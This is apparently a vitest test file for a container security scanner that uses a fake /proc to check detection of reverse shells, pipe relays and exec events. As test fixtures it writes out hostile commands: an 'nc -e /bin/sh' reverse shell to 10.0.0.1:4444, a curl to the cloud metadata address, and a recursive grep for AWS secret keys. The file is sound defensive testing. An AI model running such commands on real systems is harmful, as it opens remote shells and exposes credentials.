import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Alert } from '../../../../src/security/alert.js';
import { containerOfCgroup } from '../../../../src/security/sources/proc-read.js';
import {
  ProcessScanner,
  type ProcessSighting,
} from '../../../../src/security/sources/processes.js';

/** A fake /proc: just the files the scanner reads, so its bookkeeping is tested without a host. */
let proc: string;

beforeEach(() => {
  proc = mkdtempSync(join(tmpdir(), 'coi-fake-proc-'));
  writeFileSync(join(proc, 'uptime'), '1000.00 2000.00\n');
});
afterEach(() => rmSync(proc, { recursive: true, force: true }));

function fakeProcess(
  pid: number,
  opts: { cgroup: string; argv: string[]; startSec?: number; io?: [number, number] },
) {
  const dir = join(proc, String(pid));
  mkdirSync(join(dir, 'fd'), { recursive: true });
  mkdirSync(join(dir, 'net'), { recursive: true });
  writeFileSync(join(dir, 'cgroup'), opts.cgroup);
  writeFileSync(join(dir, 'cmdline'), `${opts.argv.join('\0')}\0`);
  const ticks = Math.round((opts.startSec ?? 999.9) * 100);
  writeFileSync(
    join(dir, 'stat'),
    `${pid} (a (b) c) S 1 ${pid} ${pid} 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 ${ticks} 0 0\n`,
  );
  const [read, write] = opts.io ?? [0, 0];
  writeFileSync(
    join(dir, 'io'),
    `rchar: 1\nwchar: 1\nread_bytes: ${read}\nwrite_bytes: ${write}\n`,
  );
  for (const fd of [0, 1, 2]) symlinkSync('/dev/pts/0', join(dir, 'fd', String(fd)));
  writeFileSync(join(dir, 'net', 'tcp'), '  sl  local_address rem_address   st\n');
  return dir;
}

const CONTAINER_CGROUP =
  '8:pids:/lxc.payload.coi-ab12cd34-1/system.slice\n0::/lxc.payload.coi-ab12cd34-1/.lxc\n';

function scanner(watched = ['coi-ab12cd34-1']) {
  const commands: ProcessSighting[] = [];
  const stdio: Array<{ sighting: ProcessSighting; alert: Alert }> = [];
  const s = new ProcessScanner({
    proc,
    watched: (name) => watched.includes(name),
    onCommand: (sighting) => commands.push(sighting),
    onStdioSocket: (sighting, alert) => stdio.push({ sighting, alert }),
    onRelay: (sighting, alert) => stdio.push({ sighting, alert }),
  });
  return { s, commands, stdio };
}

describe('cgroup attribution', () => {
  it('finds the container in v1 and v2 cgroup files, nested or not', () => {
    expect(containerOfCgroup(CONTAINER_CGROUP)).toBe('coi-ab12cd34-1');
    expect(containerOfCgroup('9:name=systemd:/lxc.payload.c1\n')).toBe('c1');
    expect(containerOfCgroup('0::/user.slice/user-0.slice/session-3.scope\n')).toBeUndefined();
    expect(containerOfCgroup('0::/lxc.monitor.c1\n')).toBeUndefined();
  });
});

/** sh reading and writing pipes that `python3 relay.py`, holding a connection, feeds and drains. */
function pipeRelay(startSec?: number): void {
  /** Points fd `fd` of `dir` at `target`, opened with `flags` (octal, as in fdinfo). */
  const fd = (dir: string, n: number, target: string, flags = '02') => {
    rmSync(join(dir, 'fd', String(n)), { force: true });
    symlinkSync(target, join(dir, 'fd', String(n)));
    mkdirSync(join(dir, 'fdinfo'), { recursive: true });
    writeFileSync(join(dir, 'fdinfo', String(n)), `pos:\t0\nflags:\t${flags}\n`);
  };
  const sh = fakeProcess(100, {
    cgroup: CONTAINER_CGROUP,
    argv: ['sh'],
    ...(startSec === undefined ? {} : { startSec }),
  });
  fd(sh, 0, 'pipe:[7]', '00');
  fd(sh, 1, 'pipe:[8]', '01');
  const relay = fakeProcess(101, { cgroup: CONTAINER_CGROUP, argv: ['python3', 'relay.py'] });
  fd(relay, 3, 'socket:[2222]');
  fd(relay, 4, 'pipe:[7]', '01');
  fd(relay, 5, 'pipe:[8]', '00');
  writeFileSync(
    join(sh, 'net', 'tcp'),
    '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n' +
      '   1: 0500630A:A8CA 0100630A:115C 01 00000000:00000000 00:00000000 00000000  1000        0 2222 1 0 20 4 30 10 -1\n',
  );
}

describe('ProcessScanner', () => {
  it("reports watched containers' processes once, and again when the command line changes", () => {
    fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['bash'] });
    fakeProcess(200, { cgroup: '0::/system.slice/sshd.service\n', argv: ['sshd'] });
    fakeProcess(300, { cgroup: '0::/lxc.payload.other-1\n', argv: ['nc', '-e', 'sh'] });
    const { s, commands } = scanner();
    s.scan();
    s.scan();
    expect(commands.map((c) => [c.container, c.pid, c.command])).toEqual([
      ['coi-ab12cd34-1', 100, 'bash'],
    ]);
    expect(commands[0]!.ageMs).toBeCloseTo(100, 0);
    // exec() after the first sighting: a young process is re-read on every scan.
    writeFileSync(join(proc, '100', 'cmdline'), 'python3\0-c\0print(1)\0');
    s.scan();
    expect(commands.at(-1)?.command).toBe('python3 -c print(1)');
  });

  it('flags stdio on a connected non-loopback socket once per socket', () => {
    const dir = fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['sh', '-i'] });
    for (const fd of [0, 1, 2]) {
      unlinkSync(join(dir, 'fd', String(fd)));
      symlinkSync('socket:[2222]', join(dir, 'fd', String(fd)));
    }
    writeFileSync(
      join(dir, 'net', 'tcp'),
      '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n' +
        '   1: 0500630A:A8CA 0100630A:115C 01 00000000:00000000 00:00000000 00000000  1000        0 2222 1 0 20 4 30 10 -1\n',
    );
    const { s, stdio } = scanner();
    s.scan();
    s.scan();
    expect(stdio).toHaveLength(1);
    expect(stdio[0]!.alert).toMatchObject({
      level: 'critical',
      evidence: { process: { pattern: 'stdio-socket' } },
    });
  });

  /** fd 0–2 of `dir` on socket `inode`, and a TCP table where `inode` is connected to 10.99.0.1. */
  const onSocket = (dir: string, inode: number) => {
    for (const fd of [0, 1, 2]) {
      unlinkSync(join(dir, 'fd', String(fd)));
      symlinkSync(`socket:[${inode}]`, join(dir, 'fd', String(fd)));
    }
    return () =>
      writeFileSync(
        join(dir, 'net', 'tcp'),
        '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n' +
          `   1: 0500630A:A8CA 0100630A:115C 01 00000000:00000000 00:00000000 00000000  1000        0 ${inode} 1 0 20 4 30 10 -1\n`,
      );
  };

  it('looks a unix socket on stdio up once (a service logging to journald): it stays one', () => {
    const dir = fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['dockerd'] });
    const connect = onSocket(dir, 3333);
    writeFileSync(
      join(dir, 'net', 'unix'),
      'Num       RefCount Protocol Flags    Type St Inode Path\n' +
        '000000001f0dbd31: 00000003 00000000 00000000 0001 03 3333\n',
    );
    const { s, stdio } = scanner();
    s.scan();
    // Were the inode looked up again, this (impossible) TCP row would raise an alert.
    connect();
    s.scan();
    expect(stdio).toEqual([]);
  });

  it('keeps looking at a stdio socket that is no unix one until it connects', () => {
    const dir = fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['python3'] });
    const connect = onSocket(dir, 4444);
    const { s, stdio } = scanner();
    s.scan();
    expect(stdio).toEqual([]);
    connect();
    s.scan();
    expect(stdio.map((r) => r.alert.evidence)).toEqual([
      expect.objectContaining({ process: expect.objectContaining({ pattern: 'stdio-socket' }) }),
    ]);
  });

  it('flags a shell fed through pipes by a process holding a connection, once', () => {
    pipeRelay();
    const { s, stdio } = scanner();
    s.scan();
    s.scan();
    expect(stdio.map((r) => [r.sighting.pid, r.alert.evidence])).toEqual([
      [
        100,
        expect.objectContaining({ process: expect.objectContaining({ pattern: 'pipe-relay' }) }),
      ],
    ]);
  });

  it('leaves a shell alone that was running for a while before it was looked at', () => {
    pipeRelay(10);
    const { s, stdio } = scanner();
    s.scan();
    expect(stdio).toEqual([]);
  });

  it("adds up the container's storage I/O, not what old processes did before the watch", () => {
    fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['old'], startSec: 10, io: [5e9, 5e9] });
    fakeProcess(101, { cgroup: CONTAINER_CGROUP, argv: ['dd'], io: [1000, 10] });
    const { s } = scanner();
    s.scan();
    expect(s.ioTotal('coi-ab12cd34-1')).toEqual({ readBytes: 1000, writeBytes: 10 });
    writeFileSync(join(proc, '101', 'io'), 'read_bytes: 3000\nwrite_bytes: 10\n');
    s.scan();
    expect(s.ioTotal('coi-ab12cd34-1')).toEqual({ readBytes: 3000, writeBytes: 10 });
    s.forget('coi-ab12cd34-1');
    expect(s.ioTotal('coi-ab12cd34-1')).toEqual({ readBytes: 0, writeBytes: 0 });
  });
});

describe('ProcessScanner: exec events', () => {
  const exec = (pid: number, argv: string[], startSec = 999.9, container = 'coi-ab12cd34-1') => ({
    kind: 'exec' as const,
    at: process.hrtime.bigint(),
    pid,
    ppid: 1,
    startMs: Math.round(startSec * 100) * 10,
    container,
    argv,
  });

  it('sees a process that exited before any scan, with the command line read at its exec', () => {
    const { s, commands } = scanner();
    s.observeExec(exec(100, ['sh', '-c', 'nc -e /bin/sh 10.0.0.1 4444']));
    expect(commands.map((c) => [c.pid, c.ppid, c.command])).toEqual([
      [100, 1, 'sh -c nc -e /bin/sh 10.0.0.1 4444'],
    ]);
    // Timed from the exec itself: well under the 10 ms of a /proc start tick.
    expect(commands[0]!.ageMs).toBeLessThan(5);
    s.scan();
    expect(commands).toHaveLength(1);
  });

  it('one process, one sighting: the scan and the event do not both report a command line', () => {
    fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['curl', 'http://169.254.169.254/'] });
    const { s, commands } = scanner();
    s.scan();
    s.observeExec(exec(100, ['curl', 'http://169.254.169.254/']));
    s.scan();
    s.observeExec(exec(101, ['true']));
    s.scan();
    expect(commands.map((c) => c.pid)).toEqual([100, 101]);
  });

  it('an exec chain is one process with its earlier command line; a reused PID is a new one', () => {
    const { s, commands } = scanner();
    s.observeExec(exec(100, ['sh', '-c', 'exec grep -r aws_secret_access_key /']));
    s.observeExec(exec(100, ['grep', '-r', 'aws_secret_access_key', '/']));
    s.observeExec(exec(100, ['grep', '-r', 'aws_secret_access_key', '/'], 1200));
    expect(commands.map((c) => [c.command, c.previousArgv])).toEqual([
      ['sh -c exec grep -r aws_secret_access_key /', undefined],
      ['grep -r aws_secret_access_key /', ['sh', '-c', 'exec grep -r aws_secret_access_key /']],
      ['grep -r aws_secret_access_key /', undefined],
    ]);
  });

  it('lists /proc only once a second: forks that never exec wait for it, the host costs nothing', () => {
    const { s, commands } = scanner();
    s.useExecEvents(true);
    s.scan();
    fakeProcess(101, { cgroup: CONTAINER_CGROUP, argv: ['bash'] });
    s.scan();
    expect(commands).toEqual([]);
    writeFileSync(join(proc, 'uptime'), '1001.00 2000.00\n');
    s.scan();
    expect(commands.map((c) => c.pid)).toEqual([101]);
  });

  it('lists /proc at once when a shell exec needs its relay, a fork the events never showed', () => {
    const { s, stdio } = scanner();
    s.useExecEvents(true);
    s.scan();
    pipeRelay();
    s.observeExec(exec(100, ['sh']));
    expect(stdio.map((r) => [r.sighting.pid, r.alert.evidence])).toEqual([
      [
        100,
        expect.objectContaining({ process: expect.objectContaining({ pattern: 'pipe-relay' }) }),
      ],
    ]);
  });

  it('looks again within milliseconds at a shell whose relay connects just after its exec', () => {
    vi.useFakeTimers();
    try {
      const { s, stdio } = scanner();
      s.useExecEvents(true);
      s.scan();
      pipeRelay();
      const tcp = join(proc, '100', 'net', 'tcp');
      const connected = readFileSync(tcp, 'utf8');
      writeFileSync(tcp, '  sl  local_address rem_address   st\n');
      s.observeExec(exec(100, ['sh']));
      expect(stdio).toEqual([]);
      writeFileSync(tcp, connected);
      vi.advanceTimersByTime(10);
      expect(stdio.map((r) => r.sighting.pid)).toEqual([100]);
      vi.advanceTimersByTime(100);
      expect(stdio).toHaveLength(1);
    } finally {
      vi.useRealTimers();
    }
  });

  it("takes stdio from the exec's own fd links when the reader sent them, not from /proc", () => {
    // /proc shows a terminal on every fd; the exec said socket 2222, connected to 10.99.0.1.
    const dir = fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['sh', '-i'] });
    writeFileSync(
      join(dir, 'net', 'tcp'),
      '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n' +
        '   1: 0500630A:A8CA 0100630A:115C 01 00000000:00000000 00:00000000 00000000  1000        0 2222 1 0 20 4 30 10 -1\n',
    );
    const { s, stdio } = scanner();
    s.observeExec({
      ...exec(100, ['sh', '-i']),
      stdio: { 0: 'socket:[2222]', 1: 'socket:[2222]', 2: 'socket:[2222]' },
    });
    expect(stdio).toHaveLength(1);
    expect(stdio[0]!.alert).toMatchObject({ evidence: { process: { pattern: 'stdio-socket' } } });
  });

  it('ignores execs in containers it does not watch', () => {
    const { s, commands } = scanner();
    s.observeExec(exec(300, ['nc', '-e', 'sh'], 999.9, 'other-1'));
    expect(commands).toEqual([]);
  });
});
